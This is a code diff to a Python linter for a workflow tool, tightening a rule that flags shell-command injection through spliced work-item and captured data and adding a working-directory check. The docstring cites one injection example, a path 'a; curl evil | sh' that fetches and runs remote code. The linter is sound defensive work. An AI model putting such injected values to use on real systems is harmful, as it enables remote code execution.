@@ -1,9 +1,14 @@
 """Lint: legal workflows that are likely to hurt. Warnings, errors under `validate --strict`.
 
-P601, work-item data spliced into a shell command outside quotes: a map item or foreach item
-comes from data (a linter's report, a file list, an issue tracker), and `rm ${item.path}` lets a
-path such as `a; curl evil | sh` run as a command. The safe form passes the item through the
-environment, which the runtime sets for every item (`"$PRODIGY_ITEM"`), or at least quotes it.
+P601, data spliced into a shell command as script text: a map or foreach item comes from data
+(a linter's report, a file list, an issue tracker), a capture from a command's output, and
+`rm ${item.path}` lets a path such as `a; curl evil | sh` run as a command. Quotes do not help:
+the value is pasted into the script before the shell reads it, so `"${item}"` runs `$(...)`,
+backticks and `"`, and `'${item}'` runs `'`. Only two forms are safe, and every other splice of
+an item or a capture into `shell:` is reported: the `:sh` modifier (`${item.path:sh}`, one
+single-quoted word), or the environment (`"$PRODIGY_ITEM"`, `"$PRODIGY_VAR_<name>"`), which
+the shell expands as data. Numbers and booleans a capture carries (`.exit_code`, `.success`,
+`.duration`) cannot inject and are not reported. Item data in `working_dir` is P603.
 
 P602, a map input that names a missing file (`lint_input.py`).
 """
@@ -21,16 +26,37 @@ from prodigy.compiler.model_workflow import Workflow, walk_steps
 from prodigy.compiler.source import SourceMap
 from prodigy.runtime.diagnostics import Diagnostic, Severity
 
-_ITEM_REF = re.compile(r"\$\{(?:item|item_json)(?:[.\[][^}]*)?\}|\$item\b")
+# What the template lexer reads as references (`grammar/template.lark`): `$${` is an escape.
+_REF = re.compile(r"\$\$\{|\$\{[^}]*\}|\$[A-Za-z_][A-Za-z0-9_]*")
+_ITEM_ROOTS = frozenset({"item", "item_json"})
+# Data roots every command publishes: the output of the latest shell or claude step.
+_OUTPUT_ROOTS = frozenset({"shell", "claude", "CAPTURED_OUTPUT"})
+_SCALAR_FIELDS = frozenset({"exit_code", "success", "duration"})
+HINT = ("write `${item.x:sh}` (quoted for the shell, one word) or read it from the environment: "
+        '"$PRODIGY_ITEM", "$PRODIGY_VAR_<name>"')
 
 
 def lint(workflow: Workflow, source_map: SourceMap) -> list[Diagnostic]:
     found: list[Diagnostic] = []
-    for step in _fed_by_data(workflow):
+    fed = {id(step) for step in _fed_by_data(workflow)}
+    captures = _OUTPUT_ROOTS | _capture_names(workflow)
+    for step in walk_steps(workflow):
         if isinstance(step.command, Shell):
-            found.extend(_unquoted_items(step.command.command, source_map))
+            roots = captures | _ITEM_ROOTS if id(step) in fed else captures
+            found.extend(_unsafe_splices(step.command.command, roots, source_map))
+        if id(step) in fed and step.working_dir is not None:
+            found.extend(_item_dirs(step.working_dir, source_map))
     found.extend(missing_input(workflow, source_map))
     return found
+
+
+def _capture_names(workflow: Workflow) -> frozenset[str]:
+    names: set[str] = set()
+    for step in walk_steps(workflow):
+        if step.capture is not None:
+            names.add(step.capture.name)
+        names.update(extract.name for extract in step.extracts)
+    return frozenset(names)
 
 
 def _fed_by_data(workflow: Workflow) -> Iterator[Step]:
@@ -50,33 +76,43 @@ def _fed_by_data(workflow: Workflow) -> Iterator[Step]:
         stack.extend(substeps(step))
 
 
-def _unquoted_items(text: Text, source_map: SourceMap) -> Iterator[Diagnostic]:
-    for start, end, ref in _outside_quotes(text.value):
-        span = (source_map.char_span(text.path, text.value, start, end)
-                if text.path is not None else text.span)
-        yield Diagnostic(
-            "P601", f"work-item data `{ref}` is spliced into a shell command unquoted", span,
-            hint='pass it through the environment ("$PRODIGY_ITEM") or at least quote it',
-            severity=Severity.WARNING)
-
-
-def _outside_quotes(command: str) -> Iterator[tuple[int, int, str]]:
-    """Item references that sit outside single and double quotes of the shell text."""
-    quote: str | None = None
-    index = 0
-    while index < len(command):
-        char = command[index]
-        if quote is None and char in "'\"":
-            quote = char
-        elif quote is not None and char == quote:
-            quote = None
-        elif char == "\\" and quote != "'":
-            index += 2
+def _unsafe_splices(text: Text, roots: frozenset[str],
+                    source_map: SourceMap) -> Iterator[Diagnostic]:
+    for match in _REF.finditer(text.value):
+        ref = match.group(0)
+        if ref == "$${" or not _unsafe(ref, roots):
             continue
-        elif char == "$" and quote is None:
-            match = _ITEM_REF.match(command, index)
-            if match:
-                yield match.start(), match.end(), match.group(0)
-                index = match.end()
-                continue
-        index += 1
+        span = (source_map.char_span(text.path, text.value, match.start(), match.end())
+                if text.path is not None else text.span)
+        what = "work-item data" if _root(ref) in _ITEM_ROOTS else "captured output"
+        yield Diagnostic("P601", f"{what} `{ref}` is spliced into a shell command as script "
+                         "text (quotes do not stop it)", span, hint=HINT,
+                         severity=Severity.WARNING)
+
+
+def _root(ref: str) -> str:
+    body = ref[2:-1] if ref.startswith("${") else ref[1:]
+    return re.split(r"[.\[:]", body, maxsplit=1)[0]
+
+
+def _unsafe(ref: str, roots: frozenset[str]) -> bool:
+    if _root(ref) not in roots:
+        return False
+    if not ref.startswith("${"):
+        return True  # `$item`
+    path, sep, _default = ref[2:-1].partition(":-")
+    if path.endswith(":sh") and not sep:
+        return False  # (a default is pasted as written, unquoted)
+    last = re.split(r"[.\[]", path)[-1].rstrip("]")
+    return last not in _SCALAR_FIELDS
+
+
+def _item_dirs(text: Text, source_map: SourceMap) -> Iterator[Diagnostic]:
+    """P603: a directory named by item data; the run refuses one outside the project, but
+    inside it the data still picks where the step writes."""
+    for match in _REF.finditer(text.value):
+        if match.group(0) != "$${" and _root(match.group(0)) in _ITEM_ROOTS:
+            span = (source_map.char_span(text.path, text.value, match.start(), match.end())
+                    if text.path is not None else text.span)
+            yield Diagnostic("P603", f"work-item data `{match.group(0)}` picks the step's "
+                             "working_dir", span, severity=Severity.WARNING)
